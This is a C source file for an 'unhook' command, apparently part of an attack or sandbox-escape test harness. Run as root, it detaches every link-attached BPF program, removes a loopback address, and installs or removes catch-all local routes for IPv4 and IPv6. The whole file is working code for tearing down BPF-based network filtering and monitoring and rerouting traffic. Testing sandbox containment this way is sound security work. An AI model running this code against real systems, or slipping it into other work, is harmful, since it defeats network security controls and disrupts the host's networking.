/*
 * unhook WHAT...: what root can do to the network that it has.
 *
 *   bpf        detaches every BPF program that is attached by a link; says how many there were
 *   address    takes 10.91.0.1 from lo
 *   routes     makes all addresses there are the machine's own
 *   noroutes   takes that back
 *
 * Each says `done`, a number, or an errno's name.
 */
#include "attack.h"

#include <arpa/inet.h>
#include <errno.h>
#include <linux/bpf.h>
#include <linux/netlink.h>
#include <linux/rtnetlink.h>
#include <net/if.h>
#include <stdio.h>
#include <string.h>
#include <sys/syscall.h>
#include <unistd.h>

static int bpf(int command, union bpf_attr *attributes)
{
	return (int)syscall(SYS_bpf, command, attributes, sizeof *attributes);
}

static int detach_all(void)
{
	union bpf_attr attributes;
	unsigned id = 0;
	int count = 0;
	for (;;) {
		memset(&attributes, 0, sizeof attributes);
		attributes.start_id = id;
		if (bpf(BPF_LINK_GET_NEXT_ID, &attributes) < 0)
			return count;
		id = attributes.next_id;
		memset(&attributes, 0, sizeof attributes);
		attributes.link_id = id;
		int fd = bpf(BPF_LINK_GET_FD_BY_ID, &attributes);
		if (fd < 0)
			continue;
		memset(&attributes, 0, sizeof attributes);
		attributes.link_detach.link_fd = (unsigned)fd;
		count += bpf(BPF_LINK_DETACH, &attributes) == 0;
		close(fd);
	}
}

union message {
	struct nlmsghdr header;
	char space[256];
};

static void attribute(union message *message, unsigned short type, const void *value, size_t size)
{
	struct rtattr *at = (void *)(message->space + NLMSG_ALIGN(message->header.nlmsg_len));
	at->rta_type = type;
	at->rta_len = (unsigned short)RTA_LENGTH(size);
	memcpy(RTA_DATA(at), value, size);
	message->header.nlmsg_len = NLMSG_ALIGN(message->header.nlmsg_len) + (unsigned)RTA_LENGTH(size);
}

static const char *change(union message *message)
{
	struct {
		struct nlmsghdr header;
		struct nlmsgerr error;
		char rest[256];
	} answer;
	int fd = socket(AF_NETLINK, SOCK_RAW, NETLINK_ROUTE);
	if (fd < 0 || send(fd, message, message->header.nlmsg_len, 0) < 0 || recv(fd, &answer, sizeof answer, 0) < 0)
		fail("netlink");
	close(fd);
	return answer.error.error ? strerrorname_np(-answer.error.error) : "done";
}

static const char *drop_address(void)
{
	union message message = {.header = {.nlmsg_type = RTM_DELADDR, .nlmsg_flags = NLM_F_REQUEST | NLM_F_ACK}};
	struct ifaddrmsg *body = NLMSG_DATA(&message.header);
	unsigned address = htonl(0x0a5b0001);
	message.header.nlmsg_len = NLMSG_LENGTH(sizeof *body);
	*body = (struct ifaddrmsg){.ifa_family = AF_INET, .ifa_prefixlen = 32, .ifa_index = if_nametoindex("lo")};
	attribute(&message, IFA_LOCAL, &address, sizeof address);
	return change(&message);
}

static const char *all_routes(unsigned short type, unsigned char family)
{
	unsigned short flags = NLM_F_REQUEST | NLM_F_ACK | (type == RTM_NEWROUTE ? NLM_F_CREATE | NLM_F_REPLACE : 0);
	union message message = {.header = {.nlmsg_type = type, .nlmsg_flags = flags}};
	struct rtmsg *body = NLMSG_DATA(&message.header);
	unsigned loopback = if_nametoindex("lo");
	message.header.nlmsg_len = NLMSG_LENGTH(sizeof *body);
	*body = (struct rtmsg){.rtm_family = family,
			       .rtm_table = RT_TABLE_MAIN,
			       .rtm_protocol = RTPROT_STATIC,
			       .rtm_scope = RT_SCOPE_HOST,
			       .rtm_type = RTN_LOCAL};
	attribute(&message, RTA_OIF, &loopback, sizeof loopback);
	return change(&message);
}

int unhook(int argc, char **argv)
{
	for (int i = 0; i < argc; i++)
		if (strcmp(argv[i], "bpf") == 0)
			printf("%d\n", detach_all());
		else if (strcmp(argv[i], "address") == 0)
			printf("%s\n", drop_address());
		else if (strcmp(argv[i], "routes") == 0)
			printf("%s\n%s\n", all_routes(RTM_NEWROUTE, AF_INET), all_routes(RTM_NEWROUTE, AF_INET6));
		else if (strcmp(argv[i], "noroutes") == 0)
			printf("%s\n%s\n", all_routes(RTM_DELROUTE, AF_INET), all_routes(RTM_DELROUTE, AF_INET6));
		else
			return 2;
	return 0;
}
